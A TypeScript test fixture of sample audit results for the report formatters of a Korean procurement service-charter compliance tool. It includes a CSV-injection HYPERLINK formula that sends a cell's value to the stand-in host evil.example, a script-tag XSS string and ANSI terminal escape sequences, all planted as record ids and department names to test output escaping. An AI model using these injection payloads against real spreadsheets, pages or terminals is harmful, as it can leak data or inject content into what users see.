/**
 * Hand-built audit results for the formatter tests: Korean departments, a 추석 week, hostile
 * values (an Excel formula as a record id, HTML in a department, an ANSI escape in an id).
 */
import { daysFromCivil, kstInstant } from '../../src/calendar/kst.js';
import type { WorkingCalendar } from '../../src/model/calendar.js';
import type { AuditResult, BreakdownRow, RuleSummary, Violation } from '../../src/model/result.js';
import type { RuleMeta } from '../../src/model/rule.js';
import type { FormatOptions } from '../../src/report/types.js';
import { TEXT_MESSAGES, textViolation } from '../helpers/messages.js';

export const FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")';
export const SCRIPT_DEPT = '<script>alert(1)</script>';
export const ESCAPE_ID = 'C-\u001b[31mRED\u001b[0m-\u001b]0;pwned\u0007-9';

/** A calendar stand-in for formatters, which read only its description. */
export const stubCalendar: WorkingCalendar = new Proxy(
  {
    timezone: 'Asia/Seoul',
    hours: ['09:00-12:00', '13:00-18:00'],
    intervals: [
      [32_400, 43_200],
      [46_800, 64_800],
    ],
    secondsPerWorkingDay: 28_800,
    holidayYears: [2024, 2025],
  } as unknown as WorkingCalendar,
  {
    get(target, key) {
      if (key in target) return (target as unknown as Record<string | symbol, unknown>)[key];
      return () => {
        throw new Error(`formatters must not compute with the calendar (called ${String(key)})`);
      };
    },
  },
);

const meta = (m: Partial<RuleMeta> & Pick<RuleMeta, 'id' | 'kind' | 'title' | 'clause' | 'threshold'>): RuleMeta => ({
  aliases: [],
  reads: [],
  basis: 'charter',
  severity: 'error',
  scope: 'record',
  requires: [],
  messages: TEXT_MESSAGES,
  messageExamples: {},
  ...m,
});

export const RULE_METAS: RuleMeta[] = [
  meta({
    id: 'complaint.inquiry',
    kind: 'complaints',
    title: { ko: '인터넷 조달업무 질의 1일 이내 처리', en: 'Web procurement inquiry answered within 1 day' },
    clause: '전자민원창구를 통하여 접수된 민원 중 조달업무 질의는 1일(8근무시간) 이내에 … 신속하게 처리하겠습니다.',
    threshold: { ko: '8근무시간', en: '8 working hours' },
  }),
  meta({
    id: 'payment.four-hours',
    kind: 'payments',
    title: { ko: '대금 청구 후 4근무시간 이내 지급', en: 'Payment within 4 working hours of the claim' },
    clause: '조달물자대금 청구 후 4근무시간 이내에 지급되도록 종결업무를 신속하게 처리하겠습니다.',
    threshold: { ko: '4근무시간', en: '4 working hours' },
  }),
  meta({
    id: 'contract.standard-days',
    kind: 'contracts',
    title: { ko: '표준행정소요일수 내 계약체결', en: 'Contract concluded within the standard administrative days' },
    clause: '계약유형별로 표준행정소요일수를 정하여 그 기간내에 반드시 계약체결을 완료',
    threshold: { ko: '설정 파일의 일수', en: 'days from the config' },
  }),
  meta({
    id: 'call.answer-rate',
    kind: 'calls',
    scope: 'aggregate',
    title: { ko: '콜센터 응대율 95% 이상', en: 'Call-centre answer rate ≥ 95%' },
    clause: '콜센터 응대율을 95% 이상 유지하여 고객의 접근이 용이하도록 최선을 다하겠습니다.',
    threshold: { ko: '월 95% 이상', en: '≥ 95% per month' },
    unit: 'rate',
    chart: { caption: { ko: '콜센터 응대율 (월별)', en: 'Call-centre answer rate per month' } },
  }),
  meta({
    id: 'call.average-wait',
    kind: 'calls',
    scope: 'aggregate',
    title: { ko: '평균 통화대기시간 20초 이내', en: 'Average wait within 20 s' },
    clause: '고객의 평균 통화대기시간 20초 이내 달성',
    threshold: { ko: '월 20초 이내', en: '≤ 20 s per month' },
    unit: 'seconds',
    chart: { caption: { ko: '평균 통화대기시간 (월별)', en: 'Average wait per month' } },
  }),
];

export const RULES: ReadonlyMap<string, RuleMeta> = new Map(RULE_METAS.map((m) => [m.id, m]));

const violation = (v: Partial<Violation> & Pick<Violation, 'rule' | 'kind' | 'line' | 'recordId' | 'start'>): Violation => ({
  severity: 'error',
  file: 'complaints.csv',
  end: null,
  deadline: null,
  allowedWorkingSeconds: null,
  elapsedWorkingSeconds: null,
  overWorkingSeconds: null,
  open: false,
  department: null,
  ...textViolation({ ko: '기한 초과', en: 'late' }),
  ...v,
});

/** Received Fri 13 Sep 2024 17:00, the eve of 추석 (16–18 Sep); allowed 8 working hours. */
export const CHUSEOK_VIOLATION: Violation = violation({
  rule: 'complaint.inquiry',
  kind: 'complaints',
  line: 2,
  recordId: 'Q-2024-0913',
  department: '고객지원센터',
  start: kstInstant(2024, 9, 13, 17, 0),
  deadline: kstInstant(2024, 9, 19, 17, 0),
  end: kstInstant(2024, 9, 20, 10, 15),
  allowedWorkingSeconds: 8 * 3600,
  elapsedWorkingSeconds: 8 * 3600 + 2 * 3600 + 15 * 60,
  overWorkingSeconds: 2 * 3600 + 15 * 60,
  ...textViolation({ ko: '질의 답변이 8근무시간을 2시간 15분 넘겼습니다', en: 'inquiry answered 2h 15m past 8 working hours' }),
});

export function sampleViolations(): Violation[] {
  return [
    CHUSEOK_VIOLATION,
    violation({
      rule: 'complaint.inquiry',
      kind: 'complaints',
      line: 7,
      recordId: FORMULA_ID,
      department: SCRIPT_DEPT,
      start: kstInstant(2024, 7, 2, 10, 0),
      deadline: kstInstant(2024, 7, 3, 11, 0),
      end: kstInstant(2024, 7, 3, 11, 30),
      allowedWorkingSeconds: 8 * 3600,
      elapsedWorkingSeconds: 8 * 3600 + 1800,
      overWorkingSeconds: 1800,
      ...textViolation({ ko: '답변 지연 | 30분', en: 'late | 30 min' }),
    }),
    violation({
      rule: 'payment.four-hours',
      kind: 'payments',
      file: 'payments.csv',
      line: 3,
      recordId: ESCAPE_ID,
      department: '서울지방조달청 구매사업과',
      start: kstInstant(2024, 8, 5, 14, 0),
      deadline: kstInstant(2024, 8, 6, 10, 0),
      end: null,
      open: true,
      allowedWorkingSeconds: 4 * 3600,
      elapsedWorkingSeconds: 4 * 3600 + 40 * 3600,
      overWorkingSeconds: 40 * 3600,
      ...textViolation({ ko: '미지급 상태로 기한 경과', en: 'unpaid past the deadline' }),
    }),
    violation({
      rule: 'payment.four-hours',
      kind: 'payments',
      file: 'payments.csv',
      line: 9,
      recordId: '+82-10-1234',
      department: '부산지방조달청 `계약과` **긴급**',
      start: kstInstant(2024, 9, 2, 9, 0),
      deadline: kstInstant(2024, 9, 2, 14, 0),
      end: kstInstant(2024, 9, 2, 15, 0),
      allowedWorkingSeconds: 4 * 3600,
      elapsedWorkingSeconds: 5 * 3600,
      overWorkingSeconds: 3600,
      ...textViolation({ ko: '지급 지연\n두 번째 줄', en: 'paid late\nsecond line' }),
    }),
  ];
}

const summary = (s: Partial<RuleSummary> & Pick<RuleSummary, 'id' | 'kind'>): RuleSummary => ({
  severity: 'error',
  evaluated: 0,
  passed: 0,
  violations: 0,
  pending: 0,
  complianceRate: null,
  ...s,
});

function months(rule: string, rates: [number, number, number]): BreakdownRow[] {
  return ['2024-07', '2024-08', '2024-09'].map((group, i) => {
    const evaluated = 100;
    const passed = Math.round((rates[i] ?? 1) * evaluated);
    return { group, rule, evaluated, passed, violations: evaluated - passed, pending: 0, complianceRate: passed / evaluated };
  });
}

/** A realistic 2024Q3 audit with hostile values in it. */
export function sampleResult(over: Partial<AuditResult> = {}): AuditResult {
  return {
    asOf: kstInstant(2024, 10, 1, 9, 0),
    period: { from: daysFromCivil(2024, 7, 1), to: daysFromCivil(2024, 9, 30) },
    granularity: 'month',
    calendar: stubCalendar,
    inputs: [
      { file: 'complaints.csv', kind: 'complaints', encoding: 'utf-8', rows: 310, evaluated: 300, outOfPeriod: 8, rejected: 2 },
      { file: 'payments.csv', kind: 'payments', encoding: 'cp949', rows: 120, evaluated: 120, outOfPeriod: 0, rejected: 0 },
      { file: 'calls.csv', kind: 'calls', encoding: 'utf-8', rows: 11_000, evaluated: 11_000, outOfPeriod: 0, rejected: 0 },
    ],
    rules: [
      summary({ id: 'call.answer-rate', kind: 'calls', evaluated: 3, passed: 2, violations: 1, complianceRate: 2 / 3 }),
      summary({ id: 'call.average-wait', kind: 'calls', evaluated: 3, passed: 3, violations: 0, complianceRate: 1 }),
      summary({
        id: 'complaint.inquiry',
        kind: 'complaints',
        evaluated: 300,
        passed: 288,
        violations: 2,
        pending: 10,
        complianceRate: 288 / 290,
      }),
      summary({
        id: 'contract.standard-days',
        kind: 'contracts',
        notEvaluatedReason: {
          code: 'NOT_EVALUATED_PRECONDITION',
          data: {
            messageId: 'no-table',
            data: {},
            messages: {
              'no-table': {
                ko: () => '설정 파일에 표준행정소요일수 표가 없습니다',
                en: () => 'no standard-days table in the config',
              },
            },
          },
        },
      }),
      summary({
        id: 'payment.four-hours',
        kind: 'payments',
        severity: 'error',
        evaluated: 120,
        passed: 118,
        violations: 2,
        complianceRate: 118 / 120,
      }),
    ],
    violations: sampleViolations(),
    aggregates: [
      {
        rule: 'call.answer-rate',
        period: '2024-07',
        value: 0.962,
        target: 0.95,
        passed: true,
        counts: { answered: 3580, offered: 3721 },
      },
      {
        rule: 'call.answer-rate',
        period: '2024-08',
        value: 0.931,
        target: 0.95,
        passed: false,
        counts: { answered: 3410, offered: 3663 },
      },
      {
        rule: 'call.answer-rate',
        period: '2024-09',
        value: 0.955,
        target: 0.95,
        passed: true,
        counts: { answered: 3500, offered: 3665 },
      },
      { rule: 'call.average-wait', period: '2024-07', value: 14.2, target: 20, passed: true, counts: { answered: 3580 } },
      { rule: 'call.average-wait', period: '2024-08', value: 19.6, target: 20, passed: true, counts: { answered: 3410 } },
      { rule: 'call.average-wait', period: '2024-09', value: 12.8, target: 20, passed: true, counts: { answered: 3500 } },
    ],
    rejected: [
      {
        file: 'complaints.csv',
        line: 44,
        code: 'INVALID_TIMESTAMP',
        data: { header: 'received_at', value: '2024-02-30 10:00', problem: 'date' },
      },
      {
        file: 'complaints.csv',
        line: 91,
        code: 'END_BEFORE_START',
        data: {
          header: 'answered_at \u001b[2J',
          value: '2024-09-02 10:00',
          startHeader: 'received_at',
          startValue: '2024-09-03 10:00',
        },
      },
    ],
    warnings: [],
    groups: {
      month: [...months('complaint.inquiry', [1, 0.99, 0.985]), ...months('payment.four-hours', [0.99, 0.99, 1])].sort(
        (a, b) => a.group.localeCompare(b.group) || a.rule.localeCompare(b.rule),
      ),
      quarter: [
        {
          group: '2024-Q3',
          rule: 'complaint.inquiry',
          evaluated: 300,
          passed: 288,
          violations: 2,
          pending: 10,
          complianceRate: 288 / 290,
        },
        {
          group: '2024-Q3',
          rule: 'payment.four-hours',
          evaluated: 120,
          passed: 118,
          violations: 2,
          pending: 0,
          complianceRate: 118 / 120,
        },
      ],
      department: [
        {
          group: SCRIPT_DEPT,
          rule: 'complaint.inquiry',
          evaluated: 40,
          passed: 39,
          violations: 1,
          pending: 0,
          complianceRate: 39 / 40,
        },
        {
          group: '고객지원센터',
          rule: 'complaint.inquiry',
          evaluated: 260,
          passed: 249,
          violations: 1,
          pending: 10,
          complianceRate: 249 / 250,
        },
        {
          group: '부산지방조달청 `계약과` **긴급**',
          rule: 'payment.four-hours',
          evaluated: 60,
          passed: 59,
          violations: 1,
          pending: 0,
          complianceRate: 59 / 60,
        },
        {
          group: '서울지방조달청 구매사업과',
          rule: 'payment.four-hours',
          evaluated: 60,
          passed: 59,
          violations: 1,
          pending: 0,
          complianceRate: 59 / 60,
        },
      ],
    },
    groupBy: null,
    previous: null,
    ...over,
  };
}

export const PREVIOUS: NonNullable<AuditResult['previous']> = {
  period: { from: daysFromCivil(2024, 4, 1), to: daysFromCivil(2024, 6, 30) },
  rules: [
    summary({ id: 'call.answer-rate', kind: 'calls', evaluated: 3, passed: 3, violations: 0, complianceRate: 1 }),
    summary({ id: 'call.average-wait', kind: 'calls', evaluated: 3, passed: 2, violations: 1, complianceRate: 2 / 3 }),
    summary({
      id: 'complaint.inquiry',
      kind: 'complaints',
      evaluated: 280,
      passed: 260,
      violations: 20,
      complianceRate: 260 / 280,
    }),
    summary({ id: 'payment.four-hours', kind: 'payments', evaluated: 100, passed: 100, violations: 0, complianceRate: 1 }),
  ],
};

export function options(over: Partial<FormatOptions> = {}): FormatOptions {
  return { lang: 'ko', color: false, limit: 20, width: 100, bom: false, rules: RULES, ...over };
}
